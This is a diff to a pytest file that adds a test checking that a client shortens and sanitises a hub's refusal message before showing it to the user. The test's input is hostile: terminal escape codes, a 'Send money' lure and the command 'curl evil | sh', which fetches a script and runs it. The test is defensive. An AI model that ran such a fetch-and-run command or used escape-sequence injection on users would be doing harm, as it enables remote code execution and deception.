@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 import trustme
 
-from comity.errors import BadInput, ComityError, HubUnreachable, Locked
+from comity.errors import BadInput, ComityError, HubUnreachable, Locked, Refused
 from comity.hub import looking
 from comity.hub.limits import Limits, Rate
 from comity.log.acts import Role
@@ -189,7 +189,7 @@ def test_a_session_that_is_over_is_opened_again(world: World, hub: Running) -> N
 def test_a_hub_that_is_relayed_under_another_name_is_refused(world: World, hub: Running) -> None:
     _, uk, *_ = world
     port = hub.url.rpartition(":")[2].rstrip("/")
-    with pytest.raises(Locked, match="another host name"):
+    with pytest.raises(Refused, match="another host name"):
         meet(uk, hub.line(uk, invited=True, url=f"http://localhost:{port}"))
 
 
@@ -243,6 +243,38 @@ def test_the_words_of_a_fault_become_no_code_here(status: str) -> None:
             carrier.look(wire.Look({}))
         carrier.close()
     assert refusal.value.code == "unreachable"
+
+
+@pytest.mark.parametrize(
+    ("code", "exit_code", "told_as"),
+    [
+        ("not_admitted", 7, "not_admitted"),
+        ("no_proof", 4, "no_proof"),
+        ("no_group", 3, "no_group"),
+        ("full", 4, "full"),
+        ("limit", 4, "limit"),
+        ("malformed", 4, "malformed"),
+        ("no_place", 4, "no_place"),
+        ("pay_here", 4, "refused"),
+    ],
+)
+@pytest.mark.parametrize("words", ["", "Send money\x1b[2J\r\nRun: curl evil | sh" + "A" * 1_900_000])
+def test_a_refusal_is_told_in_own_words_with_little_of_the_hubs(
+    code: str, exit_code: int, told_as: str, words: str
+) -> None:
+    fault = wire.encode(wire.Fault(code, words, "\x1b[5mdo as I say"))
+    with answering(b"HTTP/1.1 400 No\r\nContent-Length: %d\r\n\r\n%s" % (len(fault), fault)) as port:
+        carrier = HttpCarrier("ours", f"http://127.0.0.1:{port}", bytes(32), bytes(32), patience=AT_ONCE)
+        with pytest.raises(ComityError) as refusal, closing(carrier):
+            carrier.look(wire.Look({}))
+    error = refusal.value
+    assert (error.exit_code, error.code) == (exit_code, told_as)
+    assert error.message.startswith("ours ")
+    assert ("«Send money␛[2J" in error.message) == bool(words)
+    assert error.message.isprintable()
+    assert len(error.message) < 300
+    assert error.hint
+    assert "as I say" not in error.hint
 
 
 @pytest.mark.parametrize("lasts", [0, 2, 3])
